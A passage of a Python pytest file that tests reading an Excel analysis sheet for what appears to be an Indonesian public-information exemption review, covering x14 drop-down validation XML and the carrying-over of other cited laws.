    b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
    b'<x14:dataValidations count="1" '
    b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    b'<x14:dataValidation type="list" allowBlank="1"><x14:formula1>'
    b"<xm:f>Referensi!$K$2:$K$4</xm:f></x14:formula1><xm:sqref>I8:I13</xm:sqref>"
    b"</x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>"
)


def test_excel_data_validation_extension_is_read_without_warning() -> None:
    """Excel may save drop-downs as an x14 extension, which openpyxl warns about and drops;
    the reader expects that (pytest turns warnings into errors here)."""
    data = _rewrite(
        _fill(FILLED),
        lambda name, body: (
            body.replace(b"</worksheet>", X14_DROP_DOWN) if name.endswith("sheet1.xml") else body
        ),
    )
    with pytest.warns(UserWarning, match="Data Validation extension"):
        wb = load_workbook(BytesIO(data), read_only=True)
        list(wb[analysis.SHEET_ANALYSIS].iter_rows(values_only=True))
        wb.close()
    result = read_analysis_sheet(data, items=ITEMS)
    assert result.problems == ()
    assert len(result.rows) == 5


KESEHATAN = "Undang-Undang Nomor 36 Tahun 2009 tentang Kesehatan Pasal 57"


def test_other_laws_of_any_ground_go_with_the_decision() -> None:
    """Issue 11: the other laws the OPD cited (here beside huruf h) are kept; the Tim may
    replace them in the "UU/peraturan lain" column, or clear them with "-"."""
    items = (replace(ITEMS[0], other_law=KESEHATAN), replace(ITEMS[1], other_law=KESEHATAN))
    items = (*items, replace(ITEMS[2], other_law=KESEHATAN))
    edits = {
        ROW[101]: _decide("Dikecualikan"),
        ROW[102]: _decide("Dikecualikan", uu_lain="Perpres 16/2018 Pasal 14"),
        ROW[103]: _decide("Dikecualikan", uu_lain="-"),
    }
    result = read_analysis_sheet(_fill(edits, items), items=items)
    assert result.problems == ()
    assert [(r.item_id, r.other_law) for r in result.rows] == [
        (101, KESEHATAN),
        (102, "Perpres 16/2018 Pasal 14"),
        (103, None),
    ]
    assert result.warnings == ()
